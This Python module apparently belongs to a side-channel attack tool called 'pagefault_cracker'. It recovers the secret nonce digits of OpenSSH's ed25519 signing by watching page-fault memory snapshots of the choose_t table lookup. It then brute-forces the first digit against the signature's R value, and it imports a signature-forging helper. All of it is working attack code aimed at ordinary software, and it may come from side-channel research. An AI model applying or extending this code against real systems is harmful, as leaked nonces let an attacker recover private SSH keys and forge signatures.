"""Radix-8 signed digits of the ed25519 nonce scalar.

OpenSSH's ge25519_scalarmult_base splits the reduced message digest into 85
signed digits in [-4, 4] (sc25519_window3) and processes one digit per main
loop iteration. The digit decides which table entry choose_t moves into the
working buffer, so watching that buffer change reveals the digit.
"""

from __future__ import annotations

import logging
from typing import Sequence

from pagefault_cracker.analysis.eddsa_forge import encode_base_mult
from pagefault_cracker.analysis.offsets import require_snapshot_count, window_changed
from pagefault_cracker.utils.constants import (
    ED25519_KEY_SIZE,
    EDDSA_FIRST_DIGIT_CANDIDATES,
    EDDSA_MAIN_LOOP_CYCLES,
)
from pagefault_cracker.utils.types import FaultEvent

logger = logging.getLogger(__name__)

# (before, after) snapshot pairs inside one cycle and the digit magnitude a change implies
MAGNITUDE_PAIRS: tuple[tuple[int, int, int], ...] = (
    (0, 1, 1),
    (2, 3, 2),
    (4, 5, 3),
    (6, 7, -4),
)
SIGN_PAIR: tuple[int, int] = (8, 9)


def window3_digits(reduced: bytes | int, count: int = EDDSA_MAIN_LOOP_CYCLES) -> list[int]:
    """Forward transform: scalar -> signed radix-8 digits."""
    value = reduced if isinstance(reduced, int) else int.from_bytes(reduced, "little")
    r = [(value >> (3 * i)) & 7 for i in range(count)]
    carry = 0
    for i in range(count - 1):
        r[i] += carry
        r[i + 1] += r[i] >> 3
        r[i] &= 7
        carry = r[i] >> 2
        r[i] -= carry << 3
    r[count - 1] += carry
    return r


def signed_to_unsigned(signed: Sequence[int]) -> list[int]:
    """Undo the signing step of window3_digits by propagating borrows upward."""
    unsigned = []
    borrow = 0
    for digit in signed:
        v = digit + borrow
        unsigned.append(v & 7)
        borrow = v >> 3
    return unsigned


def unsigned_to_packed(unsigned: Sequence[int]) -> bytes:
    """Pack 3-bit digits, least significant first, into a 32-byte scalar."""
    value = 0
    for i, digit in enumerate(unsigned):
        value |= (digit & 7) << (3 * i)
    return (value % (1 << (8 * ED25519_KEY_SIZE))).to_bytes(ED25519_KEY_SIZE, "little")


def digits_value(signed: Sequence[int]) -> int:
    return sum(d * 8**i for i, d in enumerate(signed))


def recover_signed_digits(
    offset: int,
    snapshots: Sequence[FaultEvent],
    cycles: int,
    accesses_per_cycle: int,
    window_bytes: int,
) -> list[int] | None:
    """Read one digit per cycle from the snapshots at ``offset``.

    Digit 0 is never observed and is left as 0. Returns None if some cycle
    shows a change in more than one magnitude pair.
    """
    require_snapshot_count(snapshots, cycles * accesses_per_cycle)
    digits = [0] * cycles

    def changed(base: int, a: int, b: int) -> bool:
        return window_changed(
            snapshots[base + a].require_content(),
            snapshots[base + b].require_content(),
            offset,
            window_bytes,
        )

    for cycle in range(1, cycles):
        base = cycle * accesses_per_cycle
        found = False
        for before, after, magnitude in MAGNITUDE_PAIRS:
            if changed(base, before, after):
                if found:
                    return None
                digits[cycle] = magnitude
                found = True
        if digits[cycle] != -4 and changed(base, *SIGN_PAIR):
            digits[cycle] = -digits[cycle]
    return digits


def validate_digits_against_r(
    signed: list[int],
    encoded_r: bytes,
    candidates: Sequence[int] = EDDSA_FIRST_DIGIT_CANDIDATES,
) -> list[int] | None:
    """Brute-force digit 0 by comparing digits * B with the signature's R.

    Returns the completed digit list, or None if no candidate matches.
    """
    digits = list(signed)
    for first in candidates:
        digits[0] = first
        if encode_base_mult(digits_value(digits)) == encoded_r:
            logger.debug("digit 0 is %d", first)
            return digits
    return None
